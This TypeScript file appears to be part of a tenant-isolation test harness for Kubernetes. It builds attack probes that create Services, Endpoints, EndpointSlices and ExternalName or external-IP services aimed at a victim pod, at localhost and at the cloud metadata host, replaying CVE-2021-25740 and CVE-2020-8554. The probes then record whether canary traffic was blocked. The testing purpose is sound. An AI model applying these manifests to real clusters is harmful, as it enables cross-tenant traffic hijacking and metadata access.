import { sleep } from '../../stdx/index.ts'
import { type AttackContext, blocked, escaped, type Outcome } from '../attack.ts'
import { CANARY_PORT } from '../party.ts'
import type { ApiAnswer } from '../tenant-api.ts'
import { counted } from './expect.ts'
import { family, type Sketch } from './own-and-other.ts'

const BASE = '/api/v1/namespaces/default'
/** Services and names reach the pods' network. */
const PROPAGATED_MS = 2_000

type Fetched = { url: string; body?: string; error?: string }

type Hijack = Omit<Sketch, 'attempt' | 'control' | 'needs'> & {
  /** Objects that are to lead from the attacker's own service to the victim. `name` is the service. */
  objects(context: AttackContext, name: string): readonly (readonly [path: string, object: object])[]
  /** Besides the service itself. */
  urls?(context: AttackContext): readonly string[]
}

/** Whether each object is accepted is the API's to say; what counts is where packets of the attacker's pod go. */
function hijack({ objects, urls = () => [], ...sketch }: Hijack): Sketch {
  return {
    ...sketch,
    needs: ['pods'],
    async control({ attacker }) {
      const { service, namespace, value } = attacker.canaries
      const [own] = await attacker.ask<Fetched[]>('fetch', {
        urls: [`http://${service}.${namespace}.svc.cluster.local:${CANARY_PORT}/`],
      })
      if (!own?.body?.includes(value)) throw new Error(`its own service: ${own?.error ?? own?.body}`)
      return 'its own service leads to its own pod, with the same client'
    },
    async attempt(context): Promise<Outcome> {
      const { attacker, mark } = context
      const answers: ApiAnswer[] = []
      for (const [path, body] of objects(context, mark))
        answers.push(await attacker.own(path, { method: 'POST', body }))
      const failed = answers.find(({ code }) => code >= 500)
      if (failed) return escaped(`the control plane fails over it: ${failed.body.slice(0, 200)}`)
      await sleep(PROPAGATED_MS)
      const fetched = await attacker.ask<Fetched[]>('fetch', {
        urls: [`http://${mark}.default.svc.cluster.local:${CANARY_PORT}/`, ...urls(context)],
      })
      const reached = fetched.find(({ body }) => body !== undefined)
      const evidence = `objects answered ${counted(answers.map(({ code }) => code))}; ${fetched.map(({ url, body, error }) => `${url}: ${body ?? error}`).join('; ')}`
      if (reached?.body?.includes(attacker.canaries.value))
        return blocked("the tenant's own addresses come first", evidence)
      const stopped = answers.every(({ code }) => code >= 400)
        ? "admission (the API's schema)"
        : 'router rules'
      return reached ? escaped(evidence) : blocked(stopped, evidence)
    },
  }
}

const service = (name: string, spec: object) =>
  [
    `${BASE}/services`,
    {
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name },
      spec: { ports: [{ port: CANARY_PORT, targetPort: CANARY_PORT }], ...spec },
    },
  ] as const

export const serviceAttacks = family('services', 'pod network', [
  hijack({
    id: 'service-endpoint-slice',
    title: "writes the address of the victim's pod into an EndpointSlice of its own service",
    replays: 'CVE-2021-25740: endpoints that a user wrote led a forwarder to what the user could not reach',
    standards: ['MS-TA9034'],
    objects: ({ victim }, name) => [
      service(name, {}),
      [
        '/apis/discovery.k8s.io/v1/namespaces/default/endpointslices',
        {
          apiVersion: 'discovery.k8s.io/v1',
          kind: 'EndpointSlice',
          metadata: { name, labels: { 'kubernetes.io/service-name': name } },
          addressType: 'IPv4',
          ports: [{ name: '', port: CANARY_PORT, protocol: 'TCP' }],
          endpoints: [
            {
              addresses: [victim.canaries.podIP],
              conditions: { ready: true },
              targetRef: { kind: 'Pod', name: victim.canaries.pod, namespace: victim.canaries.namespace },
            },
          ],
        },
      ],
    ],
  }),
  hijack({
    id: 'service-endpoints',
    title: "writes the addresses of the victim's pod and service, and the machine's, into Endpoints",
    replays: 'CVE-2021-25740, by the older kind',
    objects: ({ victim }, name) => [
      service(name, {}),
      [
        `${BASE}/endpoints`,
        {
          apiVersion: 'v1',
          kind: 'Endpoints',
          metadata: { name },
          subsets: [
            {
              addresses: [victim.canaries.podIP, victim.canaries.clusterIP, '127.0.0.1'].map((ip) => ({
                ip,
              })),
              ports: [{ port: CANARY_PORT }],
            },
          ],
        },
      ],
    ],
  }),
  hijack({
    id: 'service-external-name',
    title: "gives its own service the victim's name, the platform's, and the machine's as external name",
    replays: 'controllers that followed an external name to where their own privileges lead',
    objects: ({ victim, mark }, name) => [
      service(name, {
        type: 'ExternalName',
        externalName: `${victim.canaries.service}.${victim.canaries.namespace}.svc.cluster.local`,
      }),
      service(`${mark}-localhost`, { type: 'ExternalName', externalName: 'localhost' }),
      service(`${mark}-meta`, { type: 'ExternalName', externalName: 'metadata.google.internal' }),
    ],
    urls: ({ mark }) => [`http://${mark}-localhost.default.svc.cluster.local:${CANARY_PORT}/`],
  }),
  hijack({
    id: 'service-external-ips',
    title: "takes the victim's addresses for its own service, as external and load balancer IPs",
    replays: 'CVE-2020-8554: a service with external IPs took the traffic that others sent there',
    objects: ({ victim, mark }, name) => [
      service(name, { externalIPs: [victim.canaries.podIP, victim.canaries.clusterIP] }),
      service(`${mark}-lb`, { type: 'LoadBalancer', loadBalancerIP: victim.canaries.podIP }),
      service(`${mark}-ip`, { clusterIP: victim.canaries.podIP }),
      service(`${mark}-np`, { type: 'NodePort' }),
    ],
    urls: ({ victim }) => [`http://${victim.canaries.podIP}:${CANARY_PORT}/`],
  }),
])
